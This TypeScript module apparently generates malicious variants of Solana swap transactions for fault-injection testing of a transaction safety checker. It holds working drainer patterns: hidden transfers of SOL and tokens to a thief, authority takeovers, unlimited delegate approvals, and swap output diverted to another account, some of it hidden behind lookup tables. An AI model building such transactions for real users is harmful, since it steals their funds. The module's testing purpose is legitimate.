import {
  AuthorityType,
  createApproveCheckedInstruction,
  createApproveInstruction,
  createCloseAccountInstruction,
  createSetAuthorityInstruction,
  createTransferCheckedInstruction,
} from '@solana/spl-token';
import { type AccountMeta, SystemProgram, TransactionInstruction } from '@solana/web3.js';
import type { MaliciousKind } from '../../faults/fault-board.js';
import { publicKey } from '../../tokens/token-accounts.js';
import type { Draft, Part } from './draft.js';
import { hidden } from './hidden-accounts.js';
import { type Attack, lootOf, thiefOf, thiefsSide } from './loot.js';
import { createAccount } from './pool-offer.js';
import { isPlainRoute, withQuotedOutput } from './route-data.js';

const MOST_UNITS = 2n ** 64n - 1n;

/** As much as the smallest tip: it looks like one. */
const TIP_LAMPORTS = 1_000_000n;

/** `route_v2`'s optional account that receives the output instead. */
const ROUTE_RECEIVER_AT = 7;
/** Where a `fill` pays the taker. */
const FILL_RECEIVER_AT = 4;

type Way = (attack: Attack) => Draft;

/** Turns an honest draft into one that robs a wallet that signs it unread, each time in another way of its kind. */
export function corrupt(kind: Exclude<MaliciousKind, 'higherInput'>, attack: Attack): Draft {
  const ways = WAYS[kind];
  return ways[attack.variant % ways.length]!(attack);
}

/** Promises no more than an honest trade would, in a trade that takes more than was asked for. */
export function promising(draft: Draft, outAmount: bigint): Draft {
  return withSwap(draft, (swap) => withQuotedOutput(swap, outAmount));
}

const WAYS: Readonly<Record<Exclude<MaliciousKind, 'higherInput'>, readonly Way[]>> = {
  extraTransfer: [stealLamports, stealTokens, (attack) => transferLamports(attack, TIP_LAMPORTS)],
  setAuthority: [
    (attack) => setAuthority(attack, AuthorityType.AccountOwner),
    (attack) => setAuthority(attack, AuthorityType.CloseAccount),
  ],
  approveDelegate: [approve, approveChecked],
  swappedDestination: [divertOutput, divertByReceiver],
  unknownLookupTable: [
    (attack) => hidden(divertOutput(attack), attack, 'missing'),
    (attack) => hidden(divertOutput(attack), attack, 'another'),
  ],
};

function stealLamports(attack: Attack): Draft {
  const { chain, taker, plan } = attack;
  const held = chain.account(taker)?.lamports ?? 0n;
  const spare = held - (plan.input.isNative ? attack.inAmount : 0n) - plan.rentLamports - 10n * TIP_LAMPORTS;
  return transferLamports(attack, spare > 2n ? spare / 2n : 1n);
}

function transferLamports(attack: Attack, lamports: bigint): Draft {
  const [fromPubkey, toPubkey] = [publicKey(attack.taker), publicKey(thiefOf(attack))];
  return plus(attack.plan.draft, 'after', [SystemProgram.transfer({ fromPubkey, toPubkey, lamports })]);
}

function stealTokens(attack: Attack): Draft {
  const loot = lootOf(attack);
  const target = loot && thiefsSide(attack, loot.mint);
  if (!loot || !target) return stealLamports(attack);
  const [from, mint, to, owner] = [loot.account, loot.mint, target.account, attack.taker].map(publicKey);
  const program = publicKey(target.program);
  return plus(attack.plan.draft, 'before', [
    createAccount(attack.taker, thiefOf(attack), target),
    createTransferCheckedInstruction(from!, mint!, to!, owner!, loot.amount, loot.decimals, [], program),
  ]);
}

function setAuthority(attack: Attack, type: AuthorityType): Draft {
  const { account, program } = lastingSide(attack);
  const [at, owner, thief] = [account, attack.taker, thiefOf(attack)].map(publicKey);
  const set = createSetAuthorityInstruction(at!, owner!, type, thief!, [], publicKey(program));
  return plus(attack.plan.draft, 'after', [set]);
}

function approve(attack: Attack): Draft {
  const { account, program } = lastingSide(attack);
  const [at, owner, thief] = [account, attack.taker, thiefOf(attack)].map(publicKey);
  return plus(attack.plan.draft, 'after', [
    createApproveInstruction(at!, thief!, owner!, MOST_UNITS, [], publicKey(program)),
  ]);
}

/** Over all else that the wallet holds. */
function approveChecked(attack: Attack): Draft {
  const loot = lootOf(attack);
  if (!loot) return approve(attack);
  const [at, mint, owner, thief] = [loot.account, loot.mint, attack.taker, thiefOf(attack)].map(publicKey);
  const program = publicKey(loot.program);
  return plus(attack.plan.draft, 'before', [
    createApproveCheckedInstruction(at!, mint!, thief!, owner!, MOST_UNITS, loot.decimals, [], program),
  ]);
}

/** A stranger's token account takes the output; native SOL is unwrapped into a stranger's wallet. */
function divertOutput(attack: Attack): Draft {
  const { plan, taker } = attack;
  const { draft, output } = plan;
  if (output.isNative && draft.parts.some(({ role }) => role === 'cleanup')) return unwrapToThief(attack);
  const target = thiefsSide(attack, output.mint)!;
  const made = plus(draft, 'before', [createAccount(taker, thiefOf(attack), target)]);
  return withSwap(made, ({ programId, keys, data }) => {
    const mine = output.isNative ? keys[FILL_RECEIVER_AT]!.pubkey : publicKey(output.account);
    const swapped = keys.map((meta, i): AccountMeta => {
      const isReceiver = output.isNative ? i === FILL_RECEIVER_AT : meta.pubkey.equals(mine);
      return isReceiver ? { ...meta, pubkey: publicKey(target.account), isWritable: true } : meta;
    });
    return new TransactionInstruction({ programId, keys: swapped, data });
  });
}

function unwrapToThief(attack: Attack): Draft {
  const [account, owner, thief] = [attack.plan.output.account, attack.taker, thiefOf(attack)].map(publicKey);
  const close = createCloseAccountInstruction(account!, thief!, owner!);
  const { draft } = attack.plan;
  return {
    ...draft,
    parts: draft.parts.map((part) => (part.role === 'cleanup' ? { ...part, instruction: close } : part)),
  };
}

/** The wallet's own account stays where it belongs, and yet another one receives. */
function divertByReceiver(attack: Attack): Draft {
  const { plan, taker } = attack;
  const swap = plan.draft.parts.find(({ role }) => role === 'swap')!.instruction;
  if (!isPlainRoute(swap)) return divertOutput(attack);
  const target = thiefsSide(attack, plan.output.mint)!;
  const made = plus(plan.draft, 'before', [createAccount(taker, thiefOf(attack), target)]);
  return withSwap(made, ({ programId, keys, data }) => {
    const receiver = { pubkey: publicKey(target.account), isSigner: false, isWritable: true };
    return new TransactionInstruction({ programId, keys: keys.with(ROUTE_RECEIVER_AT, receiver), data });
  });
}

/** The token account of this trade that is still there afterwards. */
function lastingSide({ plan: { input, output } }: Attack): Attack['plan']['output'] {
  return output.isNative ? input : output;
}

function plus(draft: Draft, where: 'before' | 'after', instructions: readonly TransactionInstruction[]): Draft {
  const at = draft.parts.findIndex(({ role }) => role === 'swap') + (where === 'after' ? 1 : 0);
  const added = instructions.map((instruction): Part => ({ role: 'setup', instruction }));
  return { ...draft, parts: draft.parts.toSpliced(at, 0, ...added) };
}

function withSwap(draft: Draft, change: (swap: TransactionInstruction) => TransactionInstruction): Draft {
  const parts = draft.parts.map((part) =>
    part.role === 'swap' ? { ...part, instruction: change(part.instruction) } : part,
  );
  return { ...draft, parts };
}
